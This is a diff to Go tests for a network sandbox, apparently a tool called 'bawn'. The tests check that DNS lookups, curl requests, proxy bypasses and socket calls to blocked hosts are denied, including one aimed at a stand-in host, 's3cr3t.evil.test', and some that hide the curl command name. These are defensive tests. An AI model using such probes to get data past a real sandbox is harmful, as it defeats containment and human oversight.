@@ -71,7 +71,7 @@ func TestA18_NoQueryLeaves(t *testing.T) {
 	b := newBox(t, w, "--allow-domain", "allowed.test")
 	wantStatus(t, b, map[string]string{`CONNECT s3cr3t.evil.test:443 HTTP/1.1\r\n\r\n`: "403"})
 	for _, text := range []string{
-		"getent hosts s3cr3t.evil.test", "curl -sS --fail --max-time 20 http://s3cr3t.evil.test/", noProxy + "curl -sS --fail --max-time 20 http://s3cr3t.evil.test/",
+		"getent hosts s3cr3t.evil.test", hidden + "-sS --fail --max-time 20 http://s3cr3t.evil.test/", noProxy + hidden + "-sS --fail --max-time 20 http://s3cr3t.evil.test/",
 		"python3 -c 'import socket; socket.getaddrinfo(\"s3cr3t.evil.test\", 80)'", "curl -sS --socks5-hostname 127.0.0.1:3128 http://s3cr3t.evil.test/",
 	} {
 		if r := b.Sh(t, "%s", text); r.Code == 0 {
@@ -220,15 +220,15 @@ func TestN11_Airlock(t *testing.T) {
 			b := NewBox(t, w, l)
 			b.Flags = append([]string{"--allow-domain", "*", "--allow-local-port", "18080"}, flags...)
 			for _, text := range []string{
-				"curl -sS --fail http://allowed.test:18080/", noProxy + "curl -sS --fail --max-time 20 http://allowed.test:18080/",
-				"curl -sS --fail http://11.0.0.10:18080/", "getent hosts allowed.test", "curl -sS --fail http://127.0.0.1:18080/",
+				hidden + "-sS --fail http://allowed.test:18080/", noProxy + "curl -sS --fail --max-time 20 http://allowed.test:18080/",
+				hidden + "-sS --fail http://11.0.0.10:18080/", "getent hosts allowed.test", "curl -sS --fail http://127.0.0.1:18080/",
 			} {
 				r := b.Sh(t, "%s", text)
 				if r.Code == 0 {
 					t.Errorf("%s %s: %s: exit 0", l, flags, text)
 				}
 			}
-			if r := b.Sh(t, "curl -sS http://allowed.test:18080/"); !strings.Contains(r.Stdout, "has no network") {
+			if r := b.Sh(t, hidden+"-sS http://allowed.test:18080/"); !strings.Contains(r.Stdout, "has no network") {
 				t.Errorf("%s: the reason is %q", flags, r.Stdout)
 			}
 		}
@@ -355,21 +355,27 @@ func TestB76_SilentStream(t *testing.T) {
 func TestB119_Headless(t *testing.T) {
 	w := NewWorld(t)
 	b := newBox(t, w)
-	r := b.Sh(t, "curl -sS --fail http://new.test:18080/")
 	want := "--allow-domain new.test"
+	// What the text says is refused before anything runs (C2).
+	r := b.Sh(t, "touch ran; curl -sS --fail http://new.test:18080/")
+	if r.Code != 125 || !strings.HasPrefix(r.Stderr, "bawn: not run: new.test") || !strings.Contains(r.Stderr, want) {
+		t.Errorf("exit %d, %q", r.Code, r.Stderr)
+	}
+	b.Sh(t, "! test -e ran").OK(t)
+	r = b.Sh(t, hidden+"-sS --fail http://new.test:18080/")
 	if r.Code == 0 || !strings.Contains(r.Stderr, "denied new.test:18080 to curl") || !strings.Contains(r.Stderr, want) {
 		t.Errorf("exit %d, %q", r.Code, r.Stderr)
 	}
-	r = b.Sh(t, "curl -sS http://new.test:18080/").OK(t)
+	r = b.Sh(t, hidden+"-sS http://new.test:18080/").OK(t)
 	if !strings.Contains(r.Stdout, want) || r.Stderr != "" {
 		t.Errorf("stdout %q, stderr %q", r.Stdout, r.Stderr)
 	}
-	r = b.Sh(t, noProxy+"curl -sS --fail http://new.test:18080/")
+	r = b.Sh(t, noProxy+hidden+"-sS --fail http://new.test:18080/")
 	if r.Code == 0 || !strings.Contains(r.Stderr, want) {
 		t.Errorf("transparent: exit %d, %q", r.Code, r.Stderr)
 	}
 	b.Flags = []string{"-q"}
-	if r := b.Sh(t, noProxy+"curl -s --fail http://new.test:18080/"); strings.Contains(r.Stderr, "bawn") {
+	if r := b.Sh(t, noProxy+hidden+"-s --fail http://new.test:18080/"); strings.Contains(r.Stderr, "bawn") {
 		t.Errorf("-q: %q", r.Stderr)
 	}
 }
